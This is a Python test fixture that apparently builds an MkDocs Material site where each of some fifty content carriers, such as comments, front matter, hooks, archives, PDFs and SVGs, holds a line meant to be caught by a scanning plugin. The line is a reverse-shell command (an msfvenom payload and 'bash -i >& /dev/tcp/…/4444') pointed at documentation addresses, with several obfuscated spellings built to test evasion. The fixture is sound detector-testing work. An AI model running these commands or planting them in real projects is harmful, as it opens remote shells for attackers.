"""A Material site on which every carrier of content carries a passage of its own that is surely flagged."""

# ruff: noqa: E501 - one carrier, one line

from __future__ import annotations

import io
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from blog import NOTHING, Blog
from parcels import lines, pdf

Write = Callable[[Blog, str], None]


def passage(number: int) -> str:
    """Return details to repeat an attack, in one line, told from all others by an address kept for examples."""
    host = address(number)
    payload = f"msfvenom -p linux/x64/shell_reverse_tcp LHOST={host} LPORT=4444"
    return f"Proof of concept {number}: {payload}; bash -i >& /dev/tcp/{host}/4444 0>&1"


def address(number: int) -> str:
    return f"203.0.113.{100 + number}"


class Carrier(NamedTuple):
    """One way of content onto the site: what it is, the look that finds it, and where the finding points.

    `line` is None where the finding names a file alone.
    """

    what: str
    look: int
    path: str
    line: int | None
    write: Write


CONFIG = """\
site_name: Carriers
site_url: https://blog.example.com/
site_description: DESCRIPTION
copyright: COPYRIGHT
theme:
  name: material
  custom_dir: overrides
  font: false
hooks: [hook.py]
extra_templates: [extra.html]
extra:
  carried: MACROS
  templated: TEMPLATED
markdown_extensions:
  - abbr
  - attr_list
  - md_in_html
  - pymdownx.superfences
  - pymdownx.snippets:
      base_path: [includes]
      auto_append: [abbreviations.md]
plugins:
  - search
  - blog
  - tags: {export: true}
  - meta
  - macros
  - include-markdown
  - redirects:
      redirect_maps:
        old.md: REDIRECT
  - rss:
      feed_description: FEED
      use_git: false
      match_path: blog/.*
  - threatgate
"""
HOOK = """\
import json
from pathlib import Path

from mkdocs.plugins import event_priority
from mkdocs.structure.files import File

FRAME = "Generated"


def on_files(files, config):
    files.append(File.generated(config, "made.txt", content="MADE_FILE"))
    files.append(File.generated(config, "made.md", content="# Made\\n\\nMADE_PAGE\\n"))
    return files


def on_page_markdown(markdown, page, **_):
    return markdown + "\\n\\nIN_MARKDOWN\\n" if page.file.src_uri == "hooked.md" else markdown


def on_page_content(html, page, **_):
    return html + "<p>IN_CONTENT</p><p data-note=\\"IN_ATTRIBUTE\\"></p>" if page.file.src_uri == "hooked.md" else html


def on_page_context(context, page, **_):
    if page.file.src_uri == "hooked.md":
        page.content += "<p>IN_CONTEXT</p>"
    return context


def on_post_page(output, page, **_):
    return output.replace("</body>", "<p>IN_PAGE</p></body>") if page.file.src_uri == "hooked.md" else output


@event_priority(-1000)
def on_post_build(config):
    Path(config.site_dir, "late.html").write_text("<p>IN_LATE</p>")
    Path(config.site_dir, "late.json").write_text(json.dumps({"text": "IN_JSON"}))
    Path(config.site_dir, "late.js").write_text("// IN_SCRIPT")
"""


def page(name: str, body: str, head: str = "") -> Write:
    def write(blog: Blog, words: str) -> None:
        front = f"---\n{head.replace('@', words)}\n---\n" if head else ""
        blog.write(f"docs/{name}", f"{front}# Page\n\n{body.replace('@', words)}\n")

    return write


def put(path: str, text: str) -> Write:
    def write(blog: Blog, words: str) -> None:
        blog.write(path, text.replace("@", words))

    return write


def both(*writes: Write) -> Write:
    def write(blog: Blog, words: str) -> None:
        for one in writes:
            one(blog, words)

    return write


def config(mark: str) -> Write:
    return mark_in("mkdocs.yml", mark, lambda words: f'"{words}"')


def hook(mark: str) -> Write:
    return mark_in("hook.py", mark, str)


def mark_in(path: str, mark: str, quoted: Callable[[str], str]) -> Write:
    def write(blog: Blog, words: str) -> None:
        text = (blog.root / path).read_text(encoding="utf-8")
        assert mark in text
        blog.write(path, text.replace(mark, quoted(words)))

    return write


def archive(blog: Blog, words: str) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("notes.txt", words)
    blog.write("docs/files/notes.zip", held.getvalue())


def linked(blog: Blog, words: str) -> None:
    blog.write("docs/real.txt", words)
    Path(blog.root / "docs/linked.txt").symlink_to("real.txt")


def post(body: str, head: str = "") -> Write:
    def write(blog: Blog, words: str) -> None:
        blog.post(declaration=NOTHING, body=body.replace("@", words), extra=head.replace("@", words))

    return write


def related(blog: Blog, words: str) -> None:
    blog.post("linked.md", NOTHING, title="Linked", extra=f'links:\n  - "{words}": index.md')


def escaped(blog: Blog, words: str) -> None:
    spelt = words.replace("-", "\\-").replace(">", "\\>")
    blog.write("docs/escaped.md", f"# Page\n\n{spelt}\n")


def parted(blog: Blog, words: str) -> None:
    spelt = words.replace("msfvenom -p", "[msfvenom](https://tool.example.com/) -p")
    spelt = spelt.replace("bash -i", "[bash](https://shell.example.com/) -i")
    blog.write("docs/parted.md", f"# Page\n\n{spelt}\n")


def entities(blog: Blog, words: str) -> None:
    spelt = words.replace("msfvenom", "msf&#118;enom").replace("bash", "b&#x61;sh")
    blog.write("docs/entities.md", f"# Page\n\n{spelt}\n")


def stressed(blog: Blog, words: str) -> None:
    spelt = words.replace("msfvenom", "**msf**venom").replace("bash", "*ba*sh")
    blog.write("docs/stressed.md", f"# Page\n\n{spelt}\n")


def hyphened(blog: Blog, words: str) -> None:
    spelt = words.replace("msfvenom", "msf\u00advenom").replace("bash", "b\u200bash")
    blog.write("docs/hyphened.md", f"# Page\n\n{spelt}\n")


def document(blog: Blog, words: str) -> None:
    blog.write("docs/files/notes.pdf", pdf(lines(words.replace("(", "").replace(")", ""))))


MACRO = "def define_env(env):\n    env.macro(lambda: '@', 'told')\n"

CARRIERS: tuple[Carrier, ...] = (
    Carrier("a page's own Markdown", 1, "docs/own.md", 3, page("own.md", "@")),
    Carrier("HTML comment", 1, "docs/comment.md", 3, page("comment.md", "<!-- @ -->")),
    Carrier("alternative text of a picture", 1, "docs/alt.md", 3, page("alt.md", "![@](x.png)")),
    Carrier("`data-` attribute", 1, "docs/data.md", 3, page("data.md", '<p data-x="@">Text.</p>')),
    Carrier("code block", 1, "docs/code.md", 4, page("code.md", "```sh\n@\n```")),
    Carrier("words parted by a comment", 1, "docs/split.md", 3, page("split.md", "@")),
    Carrier("words with entities", 1, "docs/entities.md", 3, entities),
    Carrier("words parted by emphasis", 1, "docs/stressed.md", 3, stressed),
    Carrier("words with soft hyphens and zero-width blanks", 1, "docs/hyphened.md", 3, hyphened),
    Carrier("words with backslashes", 1, "docs/escaped.md", 3, escaped),
    Carrier("words parted by links", 2, "docs/parted.md", 3, parted),
    Carrier("a post's excerpt", 1, "docs/blog/posts/a.md", 8, post("@\n\n<!-- more -->\n\nMore.\n")),
    Carrier("`title` of a link", 1, "docs/linking.md", 3, page("linking.md", "[Text](index.md '@')")),
    Carrier("attribute hung on with `attr_list`", 1, "docs/hung.md", 3, page("hung.md", "[Text](index.md){ title='@' }")),
    Carrier("title of a related link (`links:`)", 2, "docs/blog/posts/linked.md", 5, related),
    Carrier("description in front matter", 2, "docs/described.md", 2, page("described.md", "Text.", 'description: "@"')),
    Carrier("`.meta.yml` (Material's meta)", 2, "docs/meta/.meta.yml", 1, both(put("docs/meta/.meta.yml", 'description: "@"\n'), page("meta/m.md", "Text."))),
    Carrier("tag", 2, "docs/tagged.md", 2, page("tagged.md", "Text.", 'tags: ["@"]')),
    Carrier("snippet (pymdownx)", 2, "includes/snippet.md", 1, both(put("includes/snippet.md", "@\n"), page("snip.md", '--8<-- "snippet.md"'))),
    Carrier("abbreviation appended to every page", 2, "includes/abbreviations.md", 1, put("includes/abbreviations.md", "*[XQZ]: @\n")),
    Carrier("include-markdown", 2, "parts/part.md", 1, both(put("parts/part.md", "@\n"), page("inc.md", '{% include-markdown "../parts/part.md" %}'))),
    Carrier("variable of macros", 2, "mkdocs.yml", 12, both(config("MACROS"), page("variable.md", "{{ carried }}"))),
    Carrier("macro", 2, "main.py", 2, both(put("main.py", MACRO), page("macro.md", "{{ told() }}"))),
    Carrier("hook in `on_page_markdown`", 2, "hook.py", 17, hook("IN_MARKDOWN")),
    Carrier("hook in `on_page_content`", 2, "hook.py", 21, hook("IN_CONTENT")),
    Carrier("attribute added in `on_page_content`", 2, "hook.py", 21, hook("IN_ATTRIBUTE")),
    Carrier("hook in `on_page_context`", 3, "hook.py", 26, hook("IN_CONTEXT")),
    Carrier("hook in `on_post_page`", 3, "hook.py", 31, hook("IN_PAGE")),
    Carrier("generated page", 2, "hook.py", 12, hook("MADE_PAGE")),
    Carrier("generated file", 2, "docs/made.txt", 1, hook("MADE_FILE")),
    Carrier("text file beside the pages", 1, "docs/notes.txt", 1, put("docs/notes.txt", "@\n")),
    Carrier("raw HTML file", 1, "docs/raw.html", 1, put("docs/raw.html", "<p>@</p>\n")),
    Carrier("script", 1, "docs/extra.js", 1, put("docs/extra.js", "// @\n")),
    Carrier("target of a link in the file system", 1, "docs/linked.txt", 1, linked),
    Carrier("text in a zip archive", 1, "docs/files/notes.zip", 1, archive),
    Carrier("text in a PDF", 1, "docs/files/notes.pdf", 1, document),
    Carrier("text in an SVG picture", 1, "docs/drawn.svg", 1, put("docs/drawn.svg", '<svg xmlns="http://www.w3.org/2000/svg"><text>@</text></svg>\n')),
    Carrier("notebook", 1, "docs/book.ipynb", 2, put("docs/book.ipynb", '{"cells": [{"cell_type": "code", "source": ["@"]}]}\n')),
    Carrier("author's description (`.authors.yml`)", 3, "docs/blog/.authors.yml", 4, put("docs/blog/.authors.yml", 'authors:\n  liu:\n    name: Liu\n    description: "@"\n    avatar: https://example.com/a.png\n')),
    Carrier("template of the theme's `custom_dir`", 3, "overrides/main.html", 2, put("overrides/main.html", '{% extends "base.html" %}\n{% block announce %}@{% endblock %}\n')),
    Carrier("site map of the theme's `custom_dir`", 3, "overrides/sitemap.xml", 1, put("overrides/sitemap.xml", "<urlset><!-- @ --></urlset>\n")),
    Carrier("static file of the theme's `custom_dir`", 2, "overrides/told.txt", 1, put("overrides/told.txt", "@\n")),
    Carrier("`copyright`", 3, "mkdocs.yml", 4, config("COPYRIGHT")),
    Carrier("`site_description`", 3, "mkdocs.yml", 3, config("DESCRIPTION")),
    Carrier("template of `extra_templates`", 3, "mkdocs.yml", 13, both(config("TEMPLATED"), put("docs/extra.html", "<p>{{ config.extra.templated }}</p>\n"))),
    Carrier("redirect", 3, "mkdocs.yml", 31, mark_in("mkdocs.yml", "REDIRECT", lambda words: f'"https://example.com/?q={words}"')),
    Carrier("feed's description (rss)", 3, "mkdocs.yml", 33, config("FEED")),
    Carrier("HTML file written in `on_post_build`, after every plugin", 3, "hook.py", 36, hook("IN_LATE")),
    Carrier("JSON file written so", 3, "hook.py", 37, hook("IN_JSON")),
    Carrier("script written so", 3, "hook.py", 38, hook("IN_SCRIPT")),
)  # fmt: skip


def make(root: Path) -> Blog:
    """Write the site with every carrier, and commit it."""
    blog = Blog(root).start(CONFIG)
    blog.write("hook.py", HOOK)
    blog.write("docs/hooked.md", "# Hooked\n\nText.\n")
    for number, carrier in enumerate(CARRIERS):
        carrier.write(blog, passage(number))
    split = (blog.root / "docs/split.md").read_text(encoding="utf-8")
    blog.write("docs/split.md", split.replace("msfvenom", "msf<!-- -->venom"))
    blog.write(
        "docs/blog/posts/b.md",
        textwrap.dedent(f"""\
        ---
        date: 2026-06-10
        authors: [liu]
        threatgate:
          {NOTHING}
        ---
        # Second

        The XQZ is told.
        """),
    )
    blog.commit()
    return blog
